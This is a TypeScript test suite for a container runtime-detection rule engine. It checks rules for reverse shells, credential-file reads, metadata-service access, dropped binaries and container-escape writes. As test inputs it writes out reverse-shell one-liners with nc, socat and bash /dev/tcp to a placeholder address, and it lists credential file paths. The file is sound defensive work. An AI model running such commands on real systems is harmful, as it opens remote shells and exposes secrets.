import assert from 'node:assert/strict';
import { existsSync, readdirSync } from 'node:fs';
import { describe, test } from 'node:test';
import { RuleEngine } from '../../../src/rules/engine.ts';
import { loadRules, readRuleFile } from '../../../src/rules/loader/load.ts';
import type { Container } from '../../../src/apps/identity.ts';
import type { Process } from '../../../src/context/process.ts';
import type { KernelEvent } from '../../../src/events/event.ts';
import {
  BOOT_NS,
  CONTAINER,
  makeConnect,
  makeEvent,
  makeExec,
  makeFile,
  makeOpen,
  makeProcess,
  makeSubject,
  openForRead,
  openForWrite,
  RUNTIME,
  TIME_NS,
} from '../../support/rules-subject.ts';

const result = loadRules([readRuleFile('manifests/rules/varvel_rules.yaml')]);
assert.ok(result.ruleSet);
const engine = new RuleEngine(result.ruleSet);

/** Falco's rule files, where they are. */
const UPSTREAM = '../shared/falco-rules';

const SECOND = 1_000_000_000n;
const APP = makeProcess({ pid: 4200, vpid: 1, parent: RUNTIME });
const GARDEN: Container = { ...CONTAINER, runtime: 'garden' };
const YOUNG: Container = { ...CONTAINER, startedAtMs: Number(TIME_NS / 1_000_000n) - 1000 };

const names = (
  event: KernelEvent,
  process?: Process,
  container: Container | undefined = CONTAINER,
): string[] =>
  engine
    .evaluate(makeSubject(event, { ...(process === undefined ? {} : { process }), container }))
    .map(({ rule }) => rule.name);

/** A program that was started, as a process whose parent is the app unless said otherwise. */
function started(
  exePath: string,
  args: readonly string[] = [],
  more: Omit<Parameters<typeof makeProcess>[0] & object, 'image'> & {
    image?: Partial<Process['image']>;
  } = {},
): Process {
  const name = exePath.slice(exePath.lastIndexOf('/') + 1);
  const { image, ...rest } = more;
  return makeProcess({
    parent: APP,
    startBootNs: BOOT_NS,
    ...rest,
    image: { name, exe: name, exePath, args, ...image },
  });
}

const exec = (filename = '/x') => makeEvent('execve', { exec: makeExec(), params: { filename } });

describe('the default rules', () => {
  test('load without a word', () => {
    assert.deepEqual(result.warnings, []);
    assert.ok(result.loadedRules >= 66);
  });

  test('each says what it is, how it is to be taken, and who did what where', () => {
    for (const rule of result.ruleSet?.rules ?? []) {
      assert.ok(rule.description.length > 120, rule.name);
      assert.ok(
        rule.tags.some((tag) => /^T\d{4}(\.\d{3})?$/.test(tag)),
        rule.name,
      );
      assert.ok(
        rule.tags.some((tag) => tag.startsWith('mitre_')),
        rule.name,
      );
      const keys = rule.output.fields.flatMap(({ plain }) => plain.map(({ key }) => key));
      // Every line names the app by itself.
      assert.ok(!keys.includes('app.name'), rule.name);
      assert.ok(rule.description.includes('What to do: '), rule.name);
      for (const key of [
        'container.name',
        'container.id',
        'proc.cmdline',
        'proc.pname',
        'user.name',
      ]) {
        assert.ok(keys.includes(key), `${rule.name}: ${key}`);
      }
      assert.ok(rule.events.size < 12, rule.name);
    }
  });

  test('Shell started by an app', () => {
    const rule = 'Shell started by an app';
    assert.deepEqual(names(exec(), started('/usr/bin/dash', ['-c', 'id'])), [rule]);
    assert.deepEqual(
      names(exec(), started('/bin/busybox', ['-c', 'id'], { image: { name: 'sh' } })),
      [rule],
    );
    assert.deepEqual(names(exec(), started('/bin/busybox', ['-l'], { image: { name: 'ls' } })), []);
    // The container's first process, a health check, docker exec.
    assert.deepEqual(names(exec(), started('/bin/bash', [], { parent: RUNTIME })), []);
    // A start script's own shells, but not a program that only has a shell's name.
    assert.deepEqual(
      names(exec(), started('/bin/bash', [], { parent: started('/usr/bin/bash') })),
      [],
    );
    const named = (name: string) =>
      started('/bin/bash', [], { parent: makeProcess({ image: { name } }) });
    assert.deepEqual(names(exec(), named('bash')), [rule]);
    assert.deepEqual(names(exec(), named('launcher')), [rule]);
    // npm start, as the first process, or below a shell or an init.
    const npm = (parent: Process, vpid: number, age = SECOND) =>
      makeProcess({ parent, vpid, startBootNs: BOOT_NS - age, image: { name: 'npm start' } });
    const below = (parent: Process) => names(exec(), started('/bin/sh', [], { parent }));
    assert.deepEqual(below(npm(RUNTIME, 1)), []);
    assert.deepEqual(below(npm(started('/bin/bash'), 7)), []);
    assert.deepEqual(below(npm(started('/usr/bin/tini'), 7)), []);
    // An intruder's helper is as young, but below the app.
    assert.deepEqual(below(npm(APP, 7)), [rule]);
    assert.deepEqual(below(npm(RUNTIME, 1, 20n * SECOND)), [rule]);
    // Cloud Foundry's own, which only Garden's cells mount there.
    for (const path of ['/tmp/lifecycle/launcher', '/tmp/lifecycle/diego-sshd']) {
      const shell = started('/bin/bash', ['-c', 'x'], { parent: started(path) });
      const noted = path.endsWith('sshd') ? ['Command run by cf ssh'] : [];
      assert.deepEqual(names(exec(), shell, GARDEN), noted, path);
      assert.deepEqual(names(exec(), shell), [rule], path);
    }
    // A server that the runtime started and that turns into a shell itself.
    const turned = started('/bin/sh', [], {
      parent: RUNTIME,
      startBootNs: BOOT_NS - 700n * SECOND,
    });
    assert.deepEqual(names({ ...exec(), startBootNs: turned.startBootNs }, turned), [rule]);
    const failed = { ...exec(), result: -2 };
    assert.deepEqual(names(failed, started('/bin/sh')), []);
  });

  test('Terminal shell in an app container', () => {
    const rule = 'Terminal shell in an app container';
    assert.deepEqual(names(exec(), started('/bin/bash', [], { parent: RUNTIME, tty: 34816 })), [
      rule,
    ]);
    const ssh = started('/bin/bash', [], {
      parent: started('/tmp/lifecycle/diego-sshd'),
      tty: 34816,
    });
    assert.deepEqual(names(exec(), ssh, GARDEN), [rule]);
    assert.deepEqual(
      names(exec(), started('/bin/bash', [], { parent: RUNTIME, tty: 34816, vpid: 1 })),
      [],
    );
    assert.deepEqual(names(exec(), started('/bin/bash', [], { parent: RUNTIME })), []);
  });

  test('Network tool gives away a shell', () => {
    const rule = 'Network tool gives away a shell';
    const tool = (exePath: string, args: string[], image = {}) =>
      names(exec(), started(exePath, args, { parent: RUNTIME, image }));
    assert.deepEqual(
      tool('/bin/nc.traditional', ['-e', '/bin/sh', '1.2.3.4', '80'], { name: 'nc' }),
      [rule],
    );
    assert.deepEqual(tool('/bin/nc.traditional', ['-nvle', '/bin/bash']), [rule]);
    assert.deepEqual(tool('/usr/bin/ncat', ['1.2.3.4', '80', '--sh-exec', 'x']), [rule]);
    assert.deepEqual(tool('/usr/bin/socat', ['TCP:1.2.3.4:80', 'EXEC:sh,pty']), [rule]);
    assert.deepEqual(tool('/usr/bin/bash', ['-c', 'bash -i >& /dev/tcp/1.2.3.4/80 0>&1']), [rule]);
    assert.deepEqual(tool('/usr/bin/nc', ['-vz', 'db', '5432']), []);
    assert.deepEqual(tool('/usr/bin/nc', ['-U', '/shared/x.sock']), []);
  });

  test('Sensitive file read', () => {
    const rule = 'Sensitive file read';
    for (const path of [
      '/etc/shadow',
      '/etc/gshadow',
      '/etc/sudoers',
      '/etc/sudoers.d/x',
      '/root/.ssh/id_rsa',
      '/home/v/.ssh/id_ed25519',
      '/etc/ssh/ssh_host_rsa_key',
    ]) {
      assert.deepEqual(names(openForRead(path)), [rule], path);
    }
    for (const path of [
      '/etc/passwd',
      '/app/id_rsa',
      '/root/.ssh/id_rsa.pub',
      '/etc/ssh/ssh_host_rsa_key.pub',
    ]) {
      assert.deepEqual(names(openForRead(path)), [], path);
    }
    const failed = makeEvent('openat', {
      result: -13,
      open: makeOpen('/etc/shadow', { file: undefined }),
    });
    assert.deepEqual(names(failed), []);
    assert.deepEqual(names(openForRead('/etc/shadow'), started('/usr/bin/su')), []);
    const ownSu = started('/usr/bin/su', [], { image: { exeUpperLayer: true } });
    assert.deepEqual(names(openForRead('/etc/shadow'), ownSu), [rule]);
    // Through a link, and with the descriptor replaced in between.
    assert.deepEqual(names(openForRead('/etc/shadow', { rawPath: '/tmp/innocent' })), [rule]);
    assert.deepEqual(
      names(
        openForRead('/memfd:x', {
          rawPath: '/etc/shadow',
          file: makeFile('/memfd:x', { detached: true }),
        }),
      ),
      [rule],
    );
    // Before the identity is known.
    assert.deepEqual(
      engine.evaluate(makeSubject(openForRead('/etc/shadow'), { container: undefined })).length,
      1,
    );
  });

  test('Secret read long after start', () => {
    const rule = 'Secret read long after start';
    const old = makeProcess({ parent: RUNTIME });
    const young = makeProcess({ parent: RUNTIME, startBootNs: BOOT_NS - 5n * SECOND });
    for (const path of [
      '/etc/cf-instance-credentials/instance.key',
      '/etc/cf-service-bindings/db/password',
      '/bindings/db/password',
      '/run/secrets/token',
    ]) {
      assert.deepEqual(names(openForRead(path), old), [rule], path);
      assert.deepEqual(names(openForRead(path), young), [], path);
    }
    assert.deepEqual(
      names(openForRead('/run/secrets/kubernetes.io/serviceaccount/token'), old),
      [],
    );
  });

  test('Environment of another process read', () => {
    const rule = 'Environment of another process read';
    assert.deepEqual(names(openForRead('/proc/1/environ')), [rule]);
    assert.deepEqual(names(openForRead('/proc/1/task/1/environ')), [rule]);
    // Its own, which another rule is for.
    const own = ['Secret read long after start'];
    assert.deepEqual(names(openForRead('/proc/17/environ')), own);
    assert.deepEqual(
      names(openForRead('/proc/17/environ', { rawPath: '/proc/self/environ' })),
      own,
    );
    // Whatever the caller says it passed.
    assert.deepEqual(names(openForRead('/proc/1/environ', { rawPath: '/proc/self/environ' })), [
      rule,
    ]);
  });

  test('Cloud metadata service contacted', () => {
    const rule = 'Cloud metadata service contacted';
    const connect = (remoteIp: string, family: number, remotePort = 80) =>
      names(
        makeEvent('connect', {
          result: -115,
          call: makeConnect({ remoteIp, family, remotePort, localIp: '' }),
        }),
      );
    assert.deepEqual(connect('169.254.169.254', 2), [rule]);
    assert.deepEqual(connect('::ffff:169.254.169.254', 10), [rule]);
    assert.deepEqual(connect('fd00:ec2::254', 10), [rule]);
    assert.deepEqual(connect('169.254.169.254', 2, 53), []);
    assert.deepEqual(connect('169.254.169.253', 2), []);
  });

  test('New program dropped and run', () => {
    const rule = 'New program dropped and run';
    const upper = { image: { exeUpperLayer: true, exeLowerLayer: false } };
    assert.deepEqual(names(exec(), started('/app/x', [], upper)), [rule]);
    assert.deepEqual(names(exec(), started('/tmp/x')), [rule]);
    assert.deepEqual(names(exec(), started('/usr/local/bin/tool')), []);
    // A script: the file that runs is its interpreter.
    assert.deepEqual(names(exec('/dev/shm/x.py'), started('/usr/bin/python3')), [rule]);
    // A droplet on Garden, and its neighbours.
    assert.deepEqual(names(exec(), started('/home/vcap/deps/0/node', [], upper), GARDEN), []);
    assert.deepEqual(names(exec(), started('/tmp/lifecycle/launcher'), GARDEN), []);
    assert.deepEqual(names(exec(), started('/home/vcap/tmp/x', [], upper), GARDEN), [rule]);
    assert.deepEqual(names(exec(), started('/home/vcap/app/x', [], upper)), [rule]);
  });

  test('Program run from memory', () => {
    const memory = started('/memfd:x', [], { image: { exeMemfd: true } });
    assert.deepEqual(names(exec('/proc/self/fd/5'), memory), ['Program run from memory']);
    // The runtime's own (runc runs itself from memory) is set-up.
    assert.deepEqual(names(exec(), { ...memory, setup: true }), []);
  });

  test('Package manager run in an app container', () => {
    const rule = 'Package manager run in an app container';
    assert.deepEqual(names(exec(), started('/usr/bin/apt-get', ['install', 'nmap'])), [rule]);
    assert.deepEqual(
      names(exec(), started('/usr/bin/python3.12', ['/usr/bin/dnf'], { image: { name: 'dnf' } })),
      [rule],
    );
    assert.deepEqual(
      names(exec(), started('/usr/bin/dpkg', [], { parent: started('/usr/bin/apt-get') })),
      [],
    );
  });

  test('Write below a system directory', () => {
    const rule = 'Write below a system directory';
    for (const path of [
      '/bin/x',
      '/usr/bin/x',
      '/usr/lib/x86_64-linux-gnu/libc.so.6',
      '/lib/x',
      '/etc/crontab',
      '/usr/local/bin/x',
    ]) {
      const more = path === '/etc/crontab' ? ['Scheduled job written'] : [];
      assert.deepEqual(names(openForWrite(path)), [...more, rule], path);
    }
    for (const path of ['/app/bin/x', '/tmp/etc/x', '/var/lib/x', '/binary']) {
      assert.deepEqual(names(openForWrite(path)), [], path);
    }
    const creat = makeEvent('creat', {
      result: 3,
      open: makeOpen('/bin/x', { forRead: false, forWrite: true }),
    });
    assert.deepEqual(names(creat), [rule]);
    // Start scripts write configuration, but no programs.
    const script = started('/bin/bash', [], {
      parent: makeProcess({ startBootNs: BOOT_NS - SECOND }),
    });
    assert.deepEqual(names(openForWrite('/etc/nginx/nginx.conf'), script, YOUNG), []);
    assert.deepEqual(names(openForWrite('/usr/bin/x'), script, YOUNG), [rule]);
    const pyc = '/usr/local/lib/python3.12/__pycache__/json.cpython-312.pyc.123';
    assert.deepEqual(names(openForWrite(pyc), started('/usr/local/bin/python3.12')), []);
    assert.deepEqual(names(openForWrite(pyc), started('/usr/bin/wget')), [rule]);
  });

  test('Container escape file opened for writing', () => {
    const rule = 'Container escape file opened for writing';
    for (const path of [
      '/tmp/cg/release_agent',
      '/proc/sys/kernel/core_pattern',
      '/sys/kernel/uevent_helper',
    ]) {
      const more = path.startsWith('/proc/sys/') ? ['Kernel setting written'] : [];
      assert.deepEqual(names(openForWrite(path)), [rule, ...more], path);
      const refused = makeEvent('openat', {
        result: -30,
        open: makeOpen(path, { file: undefined, forRead: false, forWrite: true }),
      });
      assert.deepEqual(names(refused), [rule], path);
      assert.deepEqual(names(openForRead(path)), [], path);
    }
  });

  test('SSH authorized keys written', () => {
    assert.deepEqual(names(openForWrite('/root/.ssh/authorized_keys')), [
      'SSH authorized keys written',
    ]);
    assert.deepEqual(names(openForRead('/root/.ssh/authorized_keys')), []);
  });

  test('Shell history tampered with', () => {
    const rule = 'Shell history tampered with';
    const path = '/root/.bash_history';
    const bash = started('/bin/bash');
    assert.deepEqual(names(openForWrite(path)), [rule]);
    assert.deepEqual(names(openForWrite(path, { flags: 0o1001 }), bash), [rule]);
    // What a shell does at its end.
    assert.deepEqual(names(openForWrite(path, { flags: 0o2001 }), bash), []);
    assert.deepEqual(names(openForWrite(path, { flags: 0o1101, created: true }), bash), []);
  });

  test(
    "go together with Falco's own rule files, in either order",
    { skip: existsSync(UPSTREAM) ? false : `${UPSTREAM} is not there` },
    () => {
      const upstream = readdirSync(UPSTREAM)
        .filter((name) => name.endsWith('.yaml'))
        .map((name) => readRuleFile(`${UPSTREAM}/${name}`));
      const own = readRuleFile('manifests/rules/varvel_rules.yaml');
      for (const files of [
        [...upstream, own],
        [own, ...upstream],
      ]) {
        const together = loadRules(files);
        assert.deepEqual(together.errors, []);
        assert.equal(together.ruleSet?.rules.length, 93 + (result.ruleSet?.rules.length ?? 0));
      }
    },
  );
});
